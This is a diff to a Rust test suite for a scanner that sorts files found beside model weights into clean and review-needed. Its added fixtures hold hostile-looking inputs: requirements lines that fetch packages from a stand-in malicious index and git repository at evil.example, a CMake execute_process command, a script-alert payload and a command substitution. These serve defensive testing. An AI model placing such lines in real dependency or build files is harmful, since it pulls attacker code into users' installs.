@@ -74,6 +74,7 @@ fn what_stands_beside_weights_is_clean() {
         ),
         ("vocab.txt", "[PAD]\n[UNK]\n##s\n"),
         ("LICENSE", "Permission is granted.\n"),
+        ("requirements.txt", "# see https://pytorch.org\ntorch>=2.1\nnumpy==2.0 ; python_version > '3.9'\n"),
     ] {
         assert_eq!(verdict(name, text), (Verdict::Clean, vec![]), "{name}");
     }
@@ -158,6 +159,9 @@ fn what_names_code_is_review_and_what_is_not_read_incomplete() {
         // A template by its first letters, and a script by its name.
         ("modeling.py", "{#\n0: print('acts'), #}\n}\n"),
         ("run.sh", "{# #}\necho acts\n"),
+        ("requirements.txt", "torch\n--index-url http://evil.example/simple\n"),
+        ("a/requirements-gpu.txt", "evil @ git+https://evil.example/evil.git"),
+        ("CMakeLists.txt", "execute_process(COMMAND echo acts)\n"),
         ("page.html", "{# #}<script>alert(1)</script>"),
         ("run.sh", r#"["$(echo acts)"]"#),
         ("Makefile", "{# #}\n"),
